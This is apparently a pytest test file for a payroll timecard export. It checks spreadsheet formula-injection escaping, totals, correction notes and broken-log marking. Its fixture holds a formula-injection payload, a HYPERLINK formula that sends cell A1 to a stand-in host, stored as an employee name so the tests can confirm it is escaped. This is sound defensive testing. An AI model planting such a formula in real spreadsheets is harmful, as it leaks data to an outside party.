"""The payroll export through the real CLI against a real node: cells a spreadsheet never runs as formulas
(CSV and XLSX read back with openpyxl), a byte order mark on request, totals that add up the rows as shown,
corrections with their reasons and actors, and a broken log marked loudly."""
from __future__ import annotations

import csv
import io
import sqlite3
import subprocess
import sys
from datetime import datetime, timezone
from pathlib import Path
from typing import Iterator

import pytest
from google.protobuf.timestamp_pb2 import Timestamp
from openpyxl import load_workbook

from edge_node.gen.edge.attendance.v1 import attendance_pb2 as pb
from edge_node.gen.edge.attendance.v1 import attendance_pb2_grpc as pb_grpc
from edge_node.payroll import COLUMNS, SUMMED, TOTAL_COLUMNS, formula_safe
from tests.conftest import LiveNode, node_config
from tools.manual_clock import ManualClock

FORGED = '=HYPERLINK("http://example.invalid/?leak="&A1,"Pay")'
NAMES = {"p1": FORGED, "p2": "+49 Night Desk", "p3": "-Anna", "p4": "@home Jo", "p5": "\tTab Tom"}


def at(day: int, hour: int, minute: int = 0, second: int = 0) -> Timestamp:
    stamp = Timestamp()
    stamp.FromDatetime(datetime(2026, 11, day, hour, minute, second, tzinfo=timezone.utc))
    return stamp


@pytest.fixture
def node(tmp_path: Path) -> Iterator[LiveNode]:
    live = LiveNode(node_config(tmp_path / "node"), ManualClock(datetime(2026, 11, 23, 18, tzinfo=timezone.utc)))
    stub = pb_grpc.AttendanceServiceStub(live.channel)
    for pid, name in NAMES.items():
        stub.UpsertPerson(pb.UpsertPersonRequest(person=pb.Person(person_id=pid, display_name=name)), metadata=live.auth)
    # Three days of odd minutes and seconds, so each row's hours are rounded (08:01:20 -> 16:37:40 and so on).
    for day in (23, 24, 25):
        live.clock.set(datetime(2026, 11, day, 18, tzinfo=timezone.utc))
        for pid in NAMES:
            stub.RecordScan(pb.RecordScanRequest(person_id=pid, occurred_at=at(day, 8, day % 7, 20)), metadata=live.auth)
            stub.RecordScan(pb.RecordScanRequest(person_id=pid, occurred_at=at(day, 16, 37 + day % 5, 40)),
                            metadata=live.auth)
    live.clock.set(datetime(2026, 11, 26, 7, tzinfo=timezone.utc))
    stub.AddPunch(pb.AddPunchRequest(person_id="p2", occurred_at=at(25, 12), reason="lunch out, badge reader down",
                                     actor="hr-admin"), metadata=live.auth)
    stub.AddPunch(pb.AddPunchRequest(person_id="p2", occurred_at=at(25, 12, 45), reason="lunch back", actor="hr-admin"),
                  metadata=live.auth)
    yield live
    live.stop()


def export(node: LiveNode, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "edge_node", "report", "timecards", "--from", "2026-11-23",
                           "--to", "2026-11-25", "--target", node.address, "--token", node.node.admin_token, *args],
                          capture_output=True, text=True, timeout=60)


def test_formula_safe_cells_are_prefixed_only_when_a_spreadsheet_would_run_them():
    assert [formula_safe(t) for t in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx", "Anna", "", "a=b")] == [
        "'=1+1", "'+1", "'-1", "'@A1", "'\tx", "'\rx", "Anna", "", "a=b"]


def test_csv_cells_never_start_a_formula_and_the_bom_is_on_request(node):
    plain = export(node)
    assert plain.returncode == 0, plain.stderr
    assert not plain.stdout.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(plain.stdout)))
    assert tuple(rows[0]) == COLUMNS
    names = {r[0]: r[1] for r in rows[1:]}
    assert names == {pid: "'" + name for pid, name in NAMES.items()}
    assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for row in rows for cell in row)
    with_bom = export(node, "--bom")
    assert with_bom.stdout == "\ufeff" + plain.stdout


def test_xlsx_holds_names_as_strings_never_formulas(node, tmp_path):
    out = tmp_path / "nov.xlsx"
    done = export(node, "--format", "xlsx", "--output", str(out))
    assert done.returncode == 0, done.stderr
    sheet = load_workbook(out)["timecards"]
    column = COLUMNS.index("person_name") + 1
    cells = {sheet.cell(r, 1).value: sheet.cell(r, column) for r in range(2, sheet.max_row + 1)}
    assert {pid: cell.value for pid, cell in cells.items()} == NAMES  # exactly as entered, no quote added
    assert {cell.data_type for cell in cells.values()} == {"s"}  # 's' string, never 'f' formula
    totals = load_workbook(out)["totals"]
    assert {totals.cell(r, 2).data_type for r in range(2, totals.max_row + 1)} == {"s"}


def test_totals_add_up_the_rows_as_they_are_shown(node, tmp_path):
    rows = list(csv.DictReader(io.StringIO(export(node).stdout)))
    totals = list(csv.DictReader(io.StringIO(export(node, "--totals").stdout)))
    assert [t["person_id"] for t in totals] == list(NAMES)
    assert tuple(totals[0]) == TOTAL_COLUMNS
    for total in totals:
        mine = [r for r in rows if r["person_id"] == total["person_id"]]
        for name in SUMMED:
            shown = sum(float(r[name]) for r in mine)
            assert float(total[name]) == pytest.approx(round(shown, 2), abs=1e-9), (total["person_id"], name)
        assert int(total["present_days"]) == sum(r["status"] == "PRESENT" for r in mine)
    # Rounding is real here: the hours of the total minutes differ from the sum of the rounded rows.
    reply = pb_grpc.AttendanceServiceStub(node.channel).GetTimecards(
        pb.GetTimecardsRequest(from_date="2026-11-23", to_date="2026-11-25"), metadata=node.auth)
    from_minutes = {c.person_id: round(sum(d.worked_minutes for d in c.days) / 60, 2) for c in reply.timecards}
    assert any(from_minutes[t["person_id"]] != float(t["worked_hours"]) for t in totals), from_minutes


def test_corrections_show_their_reasons_and_actors(node):
    rows = list(csv.DictReader(io.StringIO(export(node, "--person", "p2").stdout)))
    day = next(r for r in rows if r["date"] == "2026-11-25")
    assert day["corrections"] == "2"
    assert day["correction_notes"] == ("PUNCH_ADDED 2026-11-25 12:00 by hr-admin: lunch out, badge reader down | "
                                       "PUNCH_ADDED 2026-11-25 12:45 by hr-admin: lunch back")
    assert {r["correction_notes"] for r in rows if r["date"] != "2026-11-25"} == {""}


def test_an_export_of_a_broken_log_is_written_marked_and_exits_3(node, tmp_path):
    with sqlite3.connect(node.node.store.tables.db.database) as db:  # an exit made an hour later in the file
        db.execute("UPDATE event SET occurred_us = occurred_us + 3600000000 WHERE id = 4")
    out = tmp_path / "nov.csv"
    done = export(node, "--output", str(out))
    assert done.returncode == 3
    assert "log is BROKEN at event 4" in done.stderr and "do not pay" in done.stderr
    rows = list(csv.DictReader(io.StringIO(out.read_text())))
    assert len(rows) == 15 and all("BROKEN_LOG" in r["exceptions"].split(";") for r in rows)
